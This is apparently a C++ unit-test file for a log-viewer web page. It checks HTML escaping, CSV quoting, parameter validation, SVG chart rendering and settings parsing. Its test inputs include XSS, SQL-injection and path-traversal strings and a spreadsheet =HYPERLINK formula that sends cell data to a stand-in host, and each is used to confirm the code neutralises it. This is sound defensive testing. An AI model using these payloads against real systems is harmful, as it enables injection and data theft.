// The page's pure parts: escaping, CSV quoting, parameter checks, the chart
// and the start-up settings.

#include <gtest/gtest.h>

#include "Params.h"
#include "Render.h"
#include "Routes.h"
#include "Settings.h"

using namespace Vardel::Page;

TEST(PageEscape, EveryMarkupCharacterAndNothingElse)
{
    const struct {
        std::string in, out;
    } cases[] = {
        {"plain text 123", "plain text 123"},
        {"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
        {"' OR 1=1 --", "&#39; OR 1=1 --"},
        {"a&b \"q\"", "a&amp;b &quot;q&quot;"},
        {"&lt;", "&amp;lt;"},
        {"line\r\nnext\ttab", "line\r\nnext\ttab"},
        {"\xc3\xa4\xe2\x82\xac", "\xc3\xa4\xe2\x82\xac"},
    };
    for (const auto& c : cases)
        EXPECT_EQ(Escape(c.in), c.out) << c.in;
}

TEST(PageCsv, QuotesOnlyWhatNeedsItAndDoublesQuotes)
{
    const struct {
        Text in;
        std::string out;
    } cases[] = {
        {std::nullopt, ""},
        {std::string(""), ""},
        {std::string("plain"), "plain"},
        {std::string("a,b"), "\"a,b\""},
        {std::string("say \"hi\""), "\"say \"\"hi\"\"\""},
        {std::string("two\nlines"), "\"two\nlines\""},
        {std::string("cr\ronly"), "\"cr\ronly\""},
        {std::string("' OR 1=1 --"), "' OR 1=1 --"},
        // What a spreadsheet would run as a formula goes out as text.
        {std::string("=HYPERLINK(\"http://x.invalid/?a=\"&A2,\"Click\")"),
         "\"'=HYPERLINK(\"\"http://x.invalid/?a=\"\"&A2,\"\"Click\"\")\""},
        {std::string("+1"), "'+1"},
        {std::string("-2+3"), "'-2+3"},
        {std::string("@SUM(A1)"), "'@SUM(A1)"},
        {std::string("\tcmd"), "'\tcmd"},
        {std::string("\rcmd"), "\"'\rcmd\""},
        {std::string("a=b"), "a=b"},
        {std::string(" =x"), " =x"},
    };
    for (const auto& c : cases)
        EXPECT_EQ(CsvField(c.in), c.out) << c.in.value_or("(null)");

    RecordRow row;
    row.host = "pc,1";
    row.file = "Log_2026_12_09.log";
    row.utc = "2026-12-09T10:00:00Z";
    row.timeText = "Wed Dec 09 10:00:00 AM UTC";
    row.type = "ERROR";
    row.level = "RELEASE";
    row.source = "a\nb";
    row.message = "m";
    EXPECT_EQ(RenderCsv({row}), "host,file,utc,time,type,level,source,message,raw\r\n"
                                "\"pc,1\",Log_2026_12_09.log,2026-12-09T10:00:00Z,Wed Dec 09 10:00:00 AM UTC,"
                                "ERROR,RELEASE,\"a\nb\",m,\r\n");
}

namespace {

Params P(std::initializer_list<std::pair<const std::string, std::string>> list)
{
    return Params(list);
}

}  // namespace

TEST(PageParams, GoodValuesBecomeTheTypedQuery)
{
    RecordsQuery none = ParseRecords({}, false);
    EXPECT_EQ(none.zone, "UTC");
    EXPECT_TRUE(none.hosts.empty() && none.types.empty() && none.levels.empty());
    EXPECT_FALSE(none.text || none.from || none.to || none.before || none.after || none.refresh);
    EXPECT_EQ(none.instant, Instant::Known);
    EXPECT_EQ(none.limit, kRecordsDefaultLimit);
    EXPECT_EQ(ParseRecords({}, true).limit, kExportDefaultLimit);

    RecordsQuery q = ParseRecords(P({{"zone", "America/New_York"}, {"host", "' OR 1=1 --"}, {"host", "PC-2"},
                                     {"host", "PC-2"}, {"type", "FATAL_ERROR"}, {"type", "ERROR"}, {"type", ""},
                                     {"level", "TRACE"}, {"q", "<script>"}, {"from", "2024-02-29T23:59"},
                                     {"to", "2024-03-01 00:00:30"}, {"before", "1733700000123456_42"},
                                     {"limit", "1000"}, {"refresh", "30"}}),
                                  false);
    EXPECT_EQ(q.zone, "America/New_York");
    EXPECT_EQ(q.hosts, (std::vector<std::string>{"' OR 1=1 --", "PC-2"}));
    EXPECT_EQ(q.types, (std::vector<std::string>{"FATAL_ERROR", "ERROR"}));
    EXPECT_EQ(q.levels, (std::vector<std::string>{"TRACE"}));
    EXPECT_EQ(q.text.value(), "<script>");
    EXPECT_EQ(q.from.value(), "2024-02-29 23:59:00");
    EXPECT_EQ(q.to.value(), "2024-03-01 00:00:30");
    ASSERT_TRUE(q.before);
    EXPECT_EQ(q.before->atMicros, 1733700000123456);
    EXPECT_EQ(q.before->id, 42);
    EXPECT_EQ(q.limit, 1000);
    EXPECT_EQ(q.refresh, 30);
    // Empty form fields mean "any".
    EXPECT_TRUE(ParseRecords(P({{"host", ""}, {"type", ""}, {"from", ""}}), false).hosts.empty());
    // The links carry the same query back, limit and reload included.
    EXPECT_EQ(QueryString(q, true),
              "zone=America/New_York&host=%27%20OR%201%3D1%20--&host=PC-2&type=FATAL_ERROR&type=ERROR&level=TRACE"
              "&q=%3Cscript%3E&from=2024-02-29T23:59:00&to=2024-03-01T00:00:30&before=1733700000123456_42"
              "&limit=1000&refresh=30");
    EXPECT_EQ(QueryString(q, false),
              "zone=America/New_York&host=%27%20OR%201%3D1%20--&host=PC-2&type=FATAL_ERROR&type=ERROR&level=TRACE"
              "&q=%3Cscript%3E&from=2024-02-29T23:59:00&to=2024-03-01T00:00:30&limit=1000&refresh=30");

    // A record of 1900 has a key before 1970; its link is taken back.
    RecordsQuery old = ParseRecords(P({{"before", "-2208945600000000_1543"}, {"instant", "unknown"}}), false);
    EXPECT_EQ(old.before->atMicros, -2208945600000000);
    EXPECT_EQ(old.instant, Instant::Unknown);
    EXPECT_EQ(QueryString(old, true), "instant=unknown&before=-2208945600000000_1543");
    EXPECT_EQ(ParseRecords(P({{"after", "5_6"}}), false).after->id, 6);

    RecordKey key = ParseRecordKey(P({{"host", "pc 1"}, {"file", "Log_1900_01_01.log"}, {"day", "1900-01-01"},
                                      {"offset", "120"}, {"piece", "1"}, {"id", "77"}, {"zone", "Europe/Berlin"}}));
    EXPECT_EQ(KeyString(key), "host=pc%201&file=Log_1900_01_01.log&day=1900-01-01&offset=120&piece=1&id=77"
                              "&zone=Europe/Berlin");
    EXPECT_FALSE(ParseRecordKey(P({{"host", "h"}, {"file", "f"}, {"day", "2026-12-09"}, {"id", "1"}})).offset);

    OverviewQuery o = ParseOverview(P({{"zone", "Asia/Kolkata"}, {"hours", "744"}}));
    EXPECT_EQ(o.zone, "Asia/Kolkata");
    EXPECT_EQ(o.hours, 744);
    EXPECT_EQ(ParseOverview({}).hours, 24);
}

TEST(PageParams, HostsAndTypesAsBoundArrays)
{
    // PostgreSQL's text[] input form, written out by hand.
    const struct {
        std::vector<std::string> in;
        std::string out;
    } cases[] = {
        {{}, "{}"},
        {{"pc-1"}, "{\"pc-1\"}"},
        {{"ERROR", "FATAL_ERROR"}, "{\"ERROR\",\"FATAL_ERROR\"}"},
        {{"a\"b", "c\\d", "{x,y}", "NULL", ""}, "{\"a\\\"b\",\"c\\\\d\",\"{x,y}\",\"NULL\",\"\"}"},
    };
    for (const auto& c : cases)
        EXPECT_EQ(ArrayLiteral(c.in), c.out);
}

TEST(PageParams, BadValuesNameTheParameter)
{
    const struct {
        Params params;
        bool overview;
        std::string name;
    } cases[] = {
        {P({{"zone", "Mars/Olympus"}}), false, "zone"},
        {P({{"zone", "../../etc/passwd"}}), false, "zone"},
        {P({{"zone", "Europe/../Europe/Berlin"}}), true, "zone"},
        {P({{"zone", "localtime"}}), true, "zone"},
        {P({{"zone", "UTC'; drop table vardel.records; --"}}), true, "zone"},
        {P({{"type", "error"}}), false, "type"},
        {P({{"type", "' OR 1=1 --"}}), false, "type"},
        {P({{"level", "INFO"}}), false, "level"},
        {P({{"from", "2026-02-30"}}), false, "from"},
        {P({{"from", "2026-12-09T24:00"}}), false, "from"},
        {P({{"to", "yesterday"}}), false, "to"},
        {P({{"to", "2026-12-09T10:00:00Z"}}), false, "to"},
        {P({{"from", "2026-12-09T10:00"}, {"to", "2026-12-09T10:00"}}), false, "to"},
        {P({{"before", "12345"}}), false, "before"},
        {P({{"before", "--1_2"}}), false, "before"},
        {P({{"before", "1-_2"}}), false, "before"},
        {P({{"before", "1_2"}, {"after", "3_4"}}), false, "after"},
        {P({{"tz", "Europe/Berlin"}}), false, "tz"},
        {P({{"zone", "UTC"}, {"hour", "3"}}), true, "hour"},
        {P({{"type", "ERROR"}, {"type", "oops"}}), false, "type"},
        {P({{"level", "RELEASE"}, {"level", "INFO"}}), false, "level"},
        {P({{"refresh", "7"}}), false, "refresh"},
        {P({{"refresh", "0"}}), false, "refresh"},
        {P({{"instant", "maybe"}}), false, "instant"},
        {P({{"before", "99999999999999999999_1"}}), false, "before"},
        {P({{"limit", "0"}}), false, "limit"},
        {P({{"limit", "1001"}}), false, "limit"},
        {P({{"limit", "ten"}}), false, "limit"},
        {P({{"q", std::string(201, 'x')}}), false, "q"},
        {P({{"host", "pc\xff"}}), false, "host"},
        {P({{"q", "\xc0\xaf"}}), false, "q"},
        {P({{"q", "\xed\xa0\x80"}}), false, "q"},
        {P({{"q", "cut \xe2\x82"}}), false, "q"},
        {P({{"hours", "0"}}), true, "hours"},
        {P({{"hours", "745"}}), true, "hours"},
        {P({{"hours", "1e3"}}), true, "hours"},
    };
    for (const auto& c : cases) {
        try {
            if (c.overview)
                ParseOverview(c.params);
            else
                ParseRecords(c.params, false);
            ADD_FAILURE() << "accepted " << c.params.begin()->second;
        } catch (const BadParameter& e) {
            EXPECT_EQ(e.name(), c.name) << e.what();
            EXPECT_NE(std::string(e.what()).find("'" + c.name + "'"), std::string::npos) << e.what();
        }
    }
    EXPECT_EQ(ParseRecords(P({{"limit", "100000000"}}), true).limit, kExportMaxLimit);
    EXPECT_EQ(ParseRecords(P({{"q", "\xc3\xa4 \xe2\x82\xac \xf0\x9f\x98\x80"}}), false).text.value(),
              "\xc3\xa4 \xe2\x82\xac \xf0\x9f\x98\x80");
    // A zone with '+' reaches the links encoded, not as a space.
    EXPECT_EQ(UrlEncode("Etc/GMT+5"), "Etc/GMT%2B5");
    EXPECT_EQ(ParseOverview(P({{"zone", "Etc/GMT+5"}})).zone, "Etc/GMT+5");
}

TEST(PageChart, BarsStackInProportionLinkAndCarryCountsAndAxis)
{
    // Four hours over 720 pixels: 180 a bar. Counts above, 11 pixels; bars
    // 40 high from y 11 to 51; labels below.
    std::vector<HourCounts> hours = {{0, 0, 0}, {2, 2, 0}, {0, 0, 8}, {1000, 0, 0}};
    std::vector<Bar> bars = {{"2026-12-08 22:00", "2026-12-08 23:00"}, {"2026-12-08 23:00", "2026-12-09 00:00"},
                             {"2026-12-09 00:00", "2026-12-09 01:00"}, {"2026-12-09 01:00", "2026-12-09 02:00"}};
    std::vector<std::string> links = {"/r?a", "/r?b", "/r?c&d", "/r?e"};
    std::string svg = ChartSvg(hours, 8000, bars, links, false);
    const std::string expected[] = {
        // Hour 1: errors at the bottom 40*2/8000 -> the 1-pixel floor, warnings on top, 4 in all.
        "<a class=\"bar\" href=\"/r?b\"><title>2026-12-08 23:00: 2 warnings, 2 errors, 0 fatal errors</title>"
        "<rect class=\"e\" x=\"180\" y=\"50\" width=\"179\" height=\"1\"/>"
        "<rect class=\"w\" x=\"180\" y=\"49\" width=\"179\" height=\"1\"/>"
        "<text class=\"c\" x=\"269.5\" y=\"47\" text-anchor=\"middle\">4</text></a>",
        "<a class=\"bar\" href=\"/r?c&amp;d\">",
        "<rect class=\"w\" x=\"540\" y=\"46\" width=\"179\" height=\"5\"/>",
        ">1000</text>",
        // The axis: hours, the date at local midnight and a line there.
        ">22</text>", ">23</text>", ">12-09</text>", ">01</text>",
        "<line class=\"day\" x1=\"360\" y1=\"11\" x2=\"360\" y2=\"51\"/>",
    };
    for (const std::string& part : expected)
        EXPECT_NE(svg.find(part), std::string::npos) << part << "\n" << svg;
    EXPECT_EQ(svg.find("href=\"/r?a\""), std::string::npos) << "an empty hour draws no bar and no link";

    std::string full = ChartSvg({{1, 1, 2}}, 4, {{"2026-12-09 00:00", "2026-12-10 00:00"}}, {"/x"}, true);
    EXPECT_NE(full.find("<rect class=\"f\" x=\"0\" y=\"31\" width=\"719\" height=\"20\"/>"), std::string::npos) << full;
    EXPECT_NE(full.find("<rect class=\"e\" x=\"0\" y=\"21\" width=\"719\" height=\"10\"/>"), std::string::npos) << full;
    EXPECT_NE(full.find("<rect class=\"w\" x=\"0\" y=\"11\" width=\"719\" height=\"10\"/>"), std::string::npos) << full;
    EXPECT_NE(full.find(">12-09</text>"), std::string::npos) << "a day's bar is labelled by its date";
}

TEST(PageRender, DataShowsAsTextAndUnknownInstantsSayWhy)
{
    RecordsPage page;
    page.query.zone = "Europe/Berlin";
    page.query.hosts = {"\"><script>"};
    page.query.limit = 1;
    page.older = true;
    page.matched = 12345;
    page.unknownPerHost = {{"pc<2>", 105}};
    RecordRow row;
    row.id = 7;
    row.atMicros = 1733700000000001;
    row.host = "pc<1>";
    row.file = "Log_2026_12_09.log";
    row.day = "2026-12-09";
    row.offset = "40";
    row.timeText = "UNKNOWN_TIME 99";
    row.unknown = "no zone <x>";
    row.type = "ERROR";
    row.source = "' OR 1=1 --\nline two";
    row.message = "<script>alert(1)</script>";
    page.rows = {row};
    std::string html = RenderRecords(page);
    EXPECT_EQ(html.find("<script"), std::string::npos);
    for (const char* part :
         {"UNKNOWN_TIME 99</a><span class=\"why\">no instant (file day 2026-12-09): no zone &lt;x&gt;</span>",
          "&#39; OR 1=1 --\nline two", "&lt;script&gt;alert(1)&lt;/script&gt;", "pc&lt;1&gt;",
          "<option selected>&quot;&gt;&lt;script&gt;</option>", "Time (Europe/Berlin)",
          "before=1733700000000001_7&amp;limit=1\">Older", "More than 1000 records match",
          "instant=unknown&amp;limit=1\">pc&lt;2&gt;</a> 105",
          "href=\"/record?host=pc%3C1%3E&amp;file=Log_2026_12_09.log&amp;day=2026-12-09&amp;offset=40&amp;piece=0"
          "&amp;id=7&amp;zone=Europe/Berlin\">"})
        EXPECT_NE(html.find(part), std::string::npos) << part << "\n" << html;
    EXPECT_EQ(html.find("id=\"newer\""), std::string::npos) << "the newest page has no Newer link";
    EXPECT_EQ(html.find("http-equiv=\"refresh\""), std::string::npos);
    page.query.refresh = 10;
    EXPECT_NE(RenderRecords(page).find("<meta http-equiv=\"refresh\" content=\"10\">"), std::string::npos);
}

TEST(PageSettings, DefaultsOptionsAndHiddenPasswords)
{
    Settings d = ParseSettings({});
    EXPECT_EQ(d.address, "127.0.0.1");
    EXPECT_EQ(d.port, 8080);
    EXPECT_EQ(d.store, "dbname=vardel user=vardel_reader");
    Settings s = ParseSettings({"--address", "0.0.0.0", "--port", "9090", "--store", "host=/run x"});
    EXPECT_EQ(s.address, "0.0.0.0");
    EXPECT_EQ(s.port, 9090);
    EXPECT_EQ(s.store, "host=/run x");
    for (auto bad : std::vector<std::vector<std::string>>{
             {"--port", "0"}, {"--port", "65536"}, {"--port", "80x"}, {"--port"}, {"--verbose"}, {"--address", ""}})
        EXPECT_THROW(ParseSettings(bad), std::invalid_argument) << bad[0];

    EXPECT_EQ(StoreForDisplay("host=h password=s3cret user=r"), "host=h password=*** user=r");
    EXPECT_EQ(StoreForDisplay("password = 'a b\\' c' dbname=v"), "password = *** dbname=v");
    // libpq takes "abc TOPSECRET" as the value: all of it is hidden.
    EXPECT_EQ(StoreForDisplay("password=abc\\ TOPSECRET user=r"), "password=*** user=r");
    EXPECT_EQ(StoreForDisplay("password=a\\\\ b"), "password=*** b");
    EXPECT_EQ(StoreForDisplay("postgresql://reader:s3cret@db/vardel"), "postgresql://reader:***@db/vardel");
    EXPECT_EQ(StoreForDisplay("postgres://db/vardel?user=r&password=x"), "postgres://db/vardel?user=r&password=***");
}
